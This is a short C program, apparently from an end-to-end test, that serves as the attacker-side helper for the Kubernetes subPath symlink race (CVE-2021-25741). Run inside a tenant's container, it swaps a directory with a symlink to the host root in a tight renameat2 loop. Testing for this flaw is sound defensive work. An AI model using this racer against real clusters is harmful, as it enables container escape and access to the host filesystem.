/* The attacker's helper of the subPath race (CVE-2021-25741): exchanges two paths with
 * renameat2(RENAME_EXCHANGE) as fast as it can, forever. Built static by the e2e test and
 * run inside a tenant's container: `swap_exchange <dir> <symlink-to-/>`. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s A B\n", argv[0]);
        return 2;
    }
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
